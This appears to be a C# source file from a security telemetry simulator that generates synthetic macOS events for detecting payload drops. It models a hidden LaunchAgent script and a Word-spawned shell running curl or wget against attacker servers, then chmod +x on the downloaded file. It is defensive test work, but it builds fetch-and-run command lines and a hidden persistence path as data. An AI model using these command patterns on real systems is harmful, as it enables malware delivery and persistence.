using Vigil.Contracts.Telemetry;
using Vigil.FleetSim.Activities;
using Vigil.FleetSim.Endpoint;
using Vigil.FleetSim.Fleet;

namespace Vigil.FleetSim.Scenarios;

/// <summary>
/// AN0167 attacks: curl or wget runs from a persistence script or from a shell an Office app spawned, connects to
/// attacker infrastructure, and writes a payload into a temporary or user-specific folder within seconds.
/// Evidence: the exec, the connection and the file creation, all by the same process.entity_id.
/// </summary>
internal static class CurlPayloadDrop
{
    /// <summary>A LaunchAgent's bash script (loaded from a hidden folder) runs curl -o.</summary>
    public static IEnumerable<TelemetryEvent> FromScript(ActivityContext c)
    {
        var scriptPath = $"{c.Home}/Library/Application Support/.{Adversary.DisguisedName(c)}/update.sh";
        var bash = c.Spawn(c.Launchd, Images.Bash, ["/bin/bash", scriptPath], "/", c.User);
        yield return c.Exec(bash);
        c.WaitMillis(2, 40);
        yield return c.LoadScript(bash, scriptPath);
        c.WaitMillis(30, 800);
        foreach (var e in Download(c, bash, Plan(c, Images.Curl), $"launched by a LaunchAgent bash script {scriptPath}"))
        {
            yield return e;
        }

        c.WaitMillis(20, 500);
        yield return c.Exit(bash);
    }

    /// <summary>Microsoft Word (a macro) starts zsh -c, which runs wget where Homebrew installed it, else curl.</summary>
    public static IEnumerable<TelemetryEvent> FromOfficeShell(ActivityContext c)
    {
        var word = c.Resident(ResidentKind.Word);
        var plan = Plan(c, c.Host.IsDeveloper ? Images.Wget(c.Host.BrewPrefix) : Images.Curl);
        var zsh = c.Spawn(word, Images.Zsh, ["/bin/zsh", "-c", $"{string.Join(' ', plan.Args)} && chmod +x {plan.Destination}"], c.Home, c.User);
        c.WaitMillis(100, 4000);
        yield return c.Exec(zsh);
        c.WaitMillis(5, 80);
        foreach (var e in Download(c, zsh, plan, "from zsh -c started by Microsoft Word"))
        {
            yield return e;
        }

        c.WaitMillis(5, 60);
        yield return c.Exit(zsh);
    }

    private sealed record DownloadPlan(ExecutableImage Tool, NetworkPeer Peer, string Protocol, string Destination, string Url, string[] Args);

    private static DownloadPlan Plan(ActivityContext c, ExecutableImage tool)
    {
        var port = c.Rng.Pick(new[] { 80, 443, 8080 });
        var peer = Adversary.DownloadServer(c, port);
        var protocol = Adversary.ProtocolForPort(port);
        var payload = Adversary.PayloadName(c);
        var destination = Adversary.StagingPath(c, payload);
        var url = Adversary.Url(peer, protocol, $"{c.Rng.Alphanumeric(8)}/{payload}");
        string[] args = tool.Name == "wget" ? ["wget", "-q", "-O", destination, url] : ["curl", "-fsSL", "-o", destination, url];
        return new DownloadPlan(tool, peer, protocol, destination, url, args);
    }

    private static IEnumerable<TelemetryEvent> Download(ActivityContext c, SimProcess shell, DownloadPlan plan, string how)
    {
        var (tool, peer, protocol, destination, url, args) = plan;
        var downloader = c.Spawn(shell, tool, args);
        yield return c.Evidence(c.Exec(downloader));
        if (peer.Domain is not null)
        {
            c.WaitMillis(3, 40);
            yield return c.Lookup(downloader, peer.Domain);
        }

        c.WaitMillis(5, 200);
        var connection = c.Connect(downloader, peer, protocol);
        yield return c.Evidence(c.ConnectionAttempted(connection));
        var size = c.Rng.Between(40_000L, 9_000_000L);
        c.WaitMillis(150, 2500);
        yield return c.Evidence(c.CreateFile(downloader, destination, size, FileHeaders.MachO(c.Host.Architecture)));
        c.Wait(Traffic.TransferTime(c, size));
        yield return c.Disconnected(connection, c.Rng.Between(300L, 900L), size + c.Rng.Between(300L, 900L));
        c.WaitMillis(1, 15);
        yield return c.Exit(downloader);

        var chmod = c.Spawn(shell, Images.Chmod, ["chmod", "+x", destination]);
        c.WaitMillis(5, 120);
        yield return c.Exec(chmod);
        c.WaitMillis(1, 8);
        yield return c.Exit(chmod);
        c.Describe($"{tool.Name} {how} downloads {url} to {destination}");
    }
}
